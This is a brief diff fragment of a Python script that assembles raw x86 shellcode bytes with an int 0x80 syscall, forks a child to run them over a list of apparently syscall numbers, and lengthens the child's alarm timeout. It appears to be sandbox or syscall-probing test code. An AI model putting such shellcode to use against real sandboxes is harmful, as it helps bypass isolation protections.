@@ -11,7 +11,7 @@ for number in (13, 20, 24, 47, 49, 50, 64) if OUTSIDE else range(470):  # outsid
                  + b"\xba\xff\xff\xff\xff\xcd\x80\x5b\xc3").ljust(32, b"\x90")
     pid = os.fork()
     if pid == 0:
-        signal.alarm(1)
+        signal.alarm(20)
         run()
         os._exit(0)
     status = os.waitpid(pid, 0)[1]
